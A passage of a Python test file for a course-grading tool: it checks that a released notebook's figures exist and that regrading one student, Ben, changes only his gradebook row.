    folder = term["course"] / "release" / "Ada"
    text = (folder / "notebooks" / f"{ASSIGNMENT}.ipynb").read_text(encoding="utf-8")
    shown = set(re.findall(r"\.\./figures/([\w.-]+\.png)", text))
    # a notebook names its figures in save_figure(fig, "NN-name") calls, which write ../figures/NN-name.png
    shown |= {figure_path(name).name for name in re.findall(r'save_figure\([^,]+, \\"([\w.-]+)\\"\)', text)}
    assert shown, "notebook 01 shows figures"
    assert all((folder / "figures" / name).is_file() for name in shown)


def test_regrade_one_student(term):
    """Ben hands in a corrected notebook; regrading Ben alone changes Ben's row and no other."""
    course, submissions = term["course"], term["submissions"]
    before = _canvas(course)
    nbformat.write(_fill(course, "Ben", right_answers(term["secret"], "Ben")),
                   submissions / "Ben" / f"{ASSIGNMENT}.ipynb")
    regraded = classroom.grade(submissions, course=course, students=["Ben"], timeout=TIMEOUT_S,
                               progress=False, student_env=term["student_env"])
    assert [g.student for g in regraded] == ["Ben"]
    after = _canvas(course)
    assert float(after["Ben"][ASSIGNMENT]) == 3.0 > float(before["Ben"][ASSIGNMENT])
    assert {k: v for k, v in after.items() if k != "Ben"} == {k: v for k, v in before.items() if k != "Ben"}
